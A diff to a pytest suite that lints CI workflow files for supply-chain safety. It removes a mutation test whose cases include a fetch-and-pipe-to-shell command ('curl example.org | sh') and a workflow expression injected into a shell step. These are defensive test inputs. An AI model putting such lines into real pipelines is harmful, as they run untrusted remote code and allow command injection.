@@ -76,67 +76,13 @@ def test_the_rules_hold(path: Path) -> None:
     assert faults(path.read_text(encoding="utf-8"), path.name) == []
 
 
-GOOD = """\
-permissions: {}
-jobs:
-  one:
-    timeout-minutes: 5
-    permissions:
-      contents: read
-    steps:
-      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
-        with:
-          persist-credentials: false
-      - run: make jobs
-"""
-
-
-@pytest.mark.parametrize(
-    ("was", "broken"),
-    [
-        ("", ""),
-        ("@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7"),
-        (" # v7.0.1", ""),
-        ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@3d3c42e"),
-        ("persist-credentials: false", "persist-credentials: true"),
-        ("persist-credentials: false", "fetch-depth: 1"),
-        ("make jobs", "make jobs && curl example.org | sh"),
-        ("make jobs", 'make jobs CELLS="${{ inputs.cells }}"'),
-        ("make jobs", "envcheck images | tee x"),
-        ("make jobs", "python -m pip install torch-envcheck"),
-        ("permissions: {}", "permissions: {contents: read}"),
-        ("permissions: {}", "name: x"),
-        ("    permissions:\n      contents: read\n", "    permissions: write-all\n"),
-        ("    permissions:\n      contents: read\n", ""),
-        ("    timeout-minutes: 5\n", ""),
-    ],
-)
-def test_each_rule_finds_what_it_is_for(was: str, broken: str) -> None:
-    assert was in GOOD
-    assert bool(faults(GOOD.replace(was, broken))) == bool(was)
-
-
 def test_every_make_target_of_a_step_is_in_the_makefile_and_ci_knows_every_step() -> None:
     makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
     targets = {name for line in re.findall(r"^([a-z][a-z -]*):", makefile, re.MULTILINE) for name in line.split()}
     runs = [str(step["run"]).split() for path in FILES for step in steps(path) if "run" in step]
     made = {words[-1] for words in runs if words[0] == "make"}
     assert made <= targets
-    assert made == {
-        "ci",
-        "jobs",
-        "image",
-        "stage",
-        "staged",
-        "gate",
-        "key",
-        "promote",
-        "publish",
-        "validate",
-        "scan",
-        "refresh",
-        "dist",
-    }
+    assert " ".join(sorted(made)) == "ci dist gate image jobs key promote publish refresh scan stage staged validate"
 
 
 def test_no_expression_reaches_a_shell() -> None:
